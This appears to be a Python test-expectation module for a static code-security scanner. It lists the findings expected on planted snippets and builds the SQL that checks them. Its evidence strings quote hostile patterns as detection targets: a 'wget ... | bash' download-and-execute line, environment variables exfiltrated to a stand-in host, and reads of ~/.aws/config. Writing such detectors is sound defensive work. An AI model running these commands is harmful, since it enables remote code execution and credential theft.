"""What the code rules must find in the corpus's planted Python code.

Written by hand from the rules' definitions, not by running the engine: one
row per finding as (snippet number in ``corpus.SNIPPETS``, line of the
snippet, rule, severity, title, evidence).  Snippets without a row must give
no code finding; the prose of a document is a comment and gives none either.
"""

from __future__ import annotations

from ..sources import corpus as C

SHELL = "Shell command execution"
SHELL_TRUE = SHELL + " (shell=True)"
NET = "Outbound network request"

# FIXED VALUES (expected findings)
SNIPPET_FINDINGS = [
    (15, 2, "S1", "critical", SHELL_TRUE, "Unsanitized input from sys.argv flows to subprocess.Popen()"),
    (17, 2, "S1", "medium", SHELL_TRUE, "Constant command argument"),
    (18, 3, "S1", "medium", SHELL, "Variable argument (origin: unknown)"),
    (19, 3, "S4", "medium", NET, "Hardcoded URL: https://sink.example.net/u"),
    (19, 3, "S8", "critical", "Sensitive data exfiltration detected", "os.environ → content= → httpx.put()"),
    (20, 2, "S9", "critical", "SSRF: Request targets internal/metadata service",
     "URL contains blacklisted target: localhost"),
    (21, 2, "S9", "high", "SSRF: Request targets private network", "URL targets private network range: 10.*"),
    (22, 2, "S9", "high", "SSRF: Request URL controlled by external input", "URL from sys.argv → requests.get()"),
    (23, 2, "S4", "low", NET, "Network call detected"),
    (24, 3, "S4", "medium", NET, "Variable URL (taint: unknown)"),
    (25, 2, "S10", "critical", "Download-and-execute pattern in string",
     "Pattern: wget -q https://get.example.net/i.sh | bash"),
    (26, 2, "S12", "high", "Unsafe deserialization via marshal.loads()", "Data source taint: unknown"),
    (28, 2, "S12", "medium", "Unsafe deserialization via yaml.load()", "Data source taint: literal"),
    (29, 1, "S2", "critical", "Reads sensitive file: ~/.aws/config", "Read target: ~/.aws/config"),
    (30, 1, "S3", "critical", "Writes to critical system file", "Write target: /etc/profile.d/x.sh"),
    (31, 2, "S3", "high", "File operation with externally-controlled path", "Path from sys.argv"),
    (32, 2, "S5", "info", "Reads environment variable: RECIPE", "Reads env var: RECIPE"),
    (32, 3, "S6", "critical", "Dynamic code execution via exec()", "External input from os.getenv() flows to exec()"),
    (33, 1, "S6", "medium", "Dynamic code execution via eval()", "Constant argument (not recommended but predictable)"),
    (34, 1, "S13", "critical", "Persistence mechanism reference", "String contains persistence indicator: systemd"),
    (35, 1, "S14", "high", "System configuration modification reference",
     "String contains system config path: /etc/resolv.conf"),
    (37, 2, "S5", "medium", "Reads sensitive environment variable: VENDOR_TOKEN",
     "Reads sensitive env var: VENDOR_TOKEN"),
    (38, 2, "S5", "info", "Reads environment variable: NAME_OF_USER", "Reads env var: NAME_OF_USER"),
    (38, 4, "S1", "critical", SHELL_TRUE, "Unsanitized input from os.getenv() flows to subprocess.run()"),
    (39, 4, "S1", "medium", SHELL_TRUE, "Constant command argument"),
    (40, 2, "S7", "critical", "Dynamic module import with variable name", "Module name from sys.argv"),
    (47, 1, "S6", "high", "Dynamic code execution via exec()", "Variable argument (origin: unknown)"),
    (49, 1, "S4", "medium", NET, "Variable URL (taint: unknown)"),
]
# (content, line, rule, severity, title, evidence) of whole files
FILE_FINDINGS = [
    (C.HOOK_PY, 2, "S1", "critical", SHELL_TRUE, "Unsanitized input from sys.argv flows to subprocess.call()"),
    (C.SETUP_PY_CMDCLASS, 6, "S1", "critical", SHELL, "Unsanitized input from os.getenv() flows to os.system()"),
    (C.SETUP_PY_CMDCLASS, 6, "S5", "info", "Reads environment variable: HOOK", "Reads env var: HOOK"),
]
SHELL_CALL = "Code calls {}() which can execute arbitrary system commands"
NET_CALL = "Code makes outbound network request via {}()"
READS_ENV = "Code reads environment variable via {}()"
EXEC = "Code uses {}() to execute dynamically constructed code"
LOADS = "Code uses {}() which can execute arbitrary code during deserialization"
# FIXED VALUES (expected descriptions): (snippet number, rule) -> text
MESSAGES = {
    (15, "S1"): SHELL_CALL.format("subprocess.Popen"), (17, "S1"): SHELL_CALL.format("subprocess.call"),
    (18, "S1"): SHELL_CALL.format("subprocess.check_output"), (38, "S1"): SHELL_CALL.format("subprocess.run"),
    (39, "S1"): SHELL_CALL.format("subprocess.run"), (19, "S4"): NET_CALL.format("httpx.put"),
    (23, "S4"): NET_CALL.format("requests.options"), (24, "S4"): NET_CALL.format("requests.delete"),
    (49, "S4"): NET_CALL.format("sock.sendall"), (19, "S8"): "Sensitive data from os.environ sent via httpx.put()",
    (20, "S9"): "Network request targets localhost which is a cloud metadata or internal service",
    (21, "S9"): "Network request targets private IP range",
    (22, "S9"): "Network request URL comes from external source (sys.argv)",
    (25, "S10"): "String contains a pipe-to-shell pattern", (26, "S12"): LOADS.format("marshal.loads"),
    (28, "S12"): LOADS.format("yaml.load"), (29, "S2"): "Code reads ~/.aws/config which may contain credentials",
    (30, "S3"): "Code writes to /etc/profile.d/x.sh", (31, "S3"): "File path comes from external input",
    (32, "S5"): READS_ENV.format("os.getenv"), (37, "S5"): READS_ENV.format("os.environ.get"),
    (38, "S5"): READS_ENV.format("os.getenv"), (32, "S6"): EXEC.format("exec"), (33, "S6"): EXEC.format("eval"),
    (47, "S6"): EXEC.format("exec"), (34, "S13"): "Code references persistence path: /etc/systemd/system/job.service",
    (35, "S14"): "Code references system config: /etc/resolv.conf",
    (40, "S7"): "Code dynamically imports a module via importlib.import_module()",
}
# FIXED VALUES (expected descriptions): (path, or None for the hook scripts, rule) -> text
FILE_MESSAGES = {(None, "S1"): SHELL_CALL.format("subprocess.call"), ("setup.py", "S1"): SHELL_CALL.format("os.system"),
                 ("setup.py", "S5"): READS_ENV.format("os.getenv")}
STEP_UP = {"info": "low", "low": "medium", "medium": "high", "high": "critical", "critical": "critical"}


def _q(s: str) -> str:
    return "'" + s.replace("'", "''") + "'"


def s_rows(files: str = "scanned") -> str:
    """SQL of all expected code findings in ``files`` (scanned, or files)."""
    snip = ", ".join(f"({n}, {o}, {', '.join(map(_q, rest))})" for n, o, *rest in SNIPPET_FINDINGS)
    whole = ", ".join(f"({_q(c)}, {o}, {', '.join(map(_q, rest))})" for c, o, *rest in FILE_FINDINGS)
    before = "length(regexp_replace(d.text, " + _q(C.LINE_BREAKS) + ", chr(10), 'g'))"
    lines = (f"({before} - length(replace(regexp_replace(d.text, {_q(C.LINE_BREAKS)}, chr(10), 'g'), chr(10), '')) + 1)")
    return f"""SELECT d.package_id, 'd' || CAST(d.doc_id AS VARCHAR) || d.ext AS path, CAST({lines} + e.o AS INTEGER) AS line,
  e.rule_id, e.severity, e.title, e.evidence
FROM docs d JOIN (VALUES {snip}) e(n, o, rule_id, severity, title, evidence) ON d.snip_no = e.n
WHERE d.ext LIKE '%.py'
UNION ALL
SELECT f.package_id, f.path, CAST(e.o AS INTEGER), e.rule_id, e.severity, e.title, e.evidence
FROM {files} f JOIN (VALUES {whole}) e(content, o, rule_id, severity, title, evidence) ON f.content = e.content
WHERE f.path LIKE '%.py'"""


def s11_rows() -> str:
    up = " ".join(f"WHEN {_q(a)} THEN {_q(b)}" for a, b in STEP_UP.items())
    hooked = " OR ".join(f"(path = {_q(p)} AND pk % {len(C.NPM_HOOKS)} = {r} AND pk % 4 <> 1)" for r, p in C.HOOK_FILES)
    return f"""SELECT package_id, path, line, 'S11/' || rule_id AS rule_id, CASE severity {up} END AS severity, title
FROM (SELECT *, CAST(regexp_extract(package_id, '(\\d+)$', 1) AS INTEGER) AS pk FROM ({s_rows('files')}))
WHERE {hooked} OR path = 'setup.py'"""


def message_case(rule: str, path: str, snippet: str) -> str:
    """SQL: description of a code finding of the corpus."""
    hooks = ", ".join(_q(p) for p in sorted({p for _, p in C.HOOK_FILES}))
    arms = [f"WHEN {path} {'= ' + _q(p) if p else f'IN ({hooks})'} AND {rule} = {_q(r)} THEN {_q(t)}" for (p, r), t in FILE_MESSAGES.items()]
    arms += [f"WHEN {snippet} = {n} AND {rule} = {_q(r)} THEN {_q(t)}" for (n, r), t in MESSAGES.items()]
    return "CASE " + "\n  ".join(arms) + " END"


# FIXED VALUES (expected definitions): (snippet number, statement, level, type and description of the source).
# A key is the place of its statement in the walk times 65,536; what calls are given is looked up behind the last statement.
CONSTANTS = (*range(15), 34, 35, 42, 45, 46)
DEFINITIONS = [(n, 1, "literal", None, None) for n in CONSTANTS] + [
    (18, 2, "unknown", None, None), (19, 2, "external", "env_var", "os.environ"), (24, 2, "unknown", None, None),
    (29, 1, "unknown", None, None), (32, 2, "external", "env_var", "os.getenv()"), (36, 2, "external", "env_var", "os.getenv()"),
    (37, 2, "external", "env_var", "os.environ.get()"), (38, 2, "external", "env_var", "os.getenv()"),
    (38, 3, "external", "env_var", "os.getenv()"), (39, 2, "literal", None, None), (39, 3, "literal", None, None),
    (43, 1, "internal", None, None), (44, 1, "internal", None, None), (48, 2, "unknown", None, None)]
END = (1 << 62) >> 16
# FIXED VALUES (expected references): (snippet number, name, statement of the use, statement of the definition)
REFERENCES = [
    (18, "job", END, 2), (19, "mark", END, 2), (24, "where", END, 2), (27, "text", END, None), (32, "recipe", END, 2),
    (38, "user", 3, 2), (38, "line", END, 3), (39, "head", 3, 2), (39, "tail", END, 3), (43, "_0xbeef01", 1, None),
    (43, "_0xfade22", 1, None), (49, "data", END, None)]


def _planted(columns: str, names: str, rows: list[tuple]) -> str:
    """SQL: rows expected of each planted snippet of the Python files."""
    cell = lambda x: "NULL" if x is None else _q(x) if isinstance(x, str) else str(x)
    values = ", ".join("(" + ", ".join(map(cell, r)) + ")" for r in rows)
    return f"""SELECT d.package_id, 'd' || CAST(d.doc_id AS VARCHAR) || d.ext AS path, {columns}
FROM docs d JOIN (VALUES {values}) e({names}) ON d.snip_no = e.n WHERE d.ext LIKE '%.py'"""


def definition_rows() -> str:
    return _planted("CAST(e.pos AS BIGINT) * 65536 AS def_key, e.level, e.src_type, e.src_desc", "n, pos, level, src_type, src_desc", DEFINITIONS)


def reference_rows() -> str:
    return _planted("e.name, CAST(e.pos AS BIGINT) * 65536 AS use_key, CAST(e.def AS BIGINT) * 65536 AS reach", "n, name, pos, def", REFERENCES)
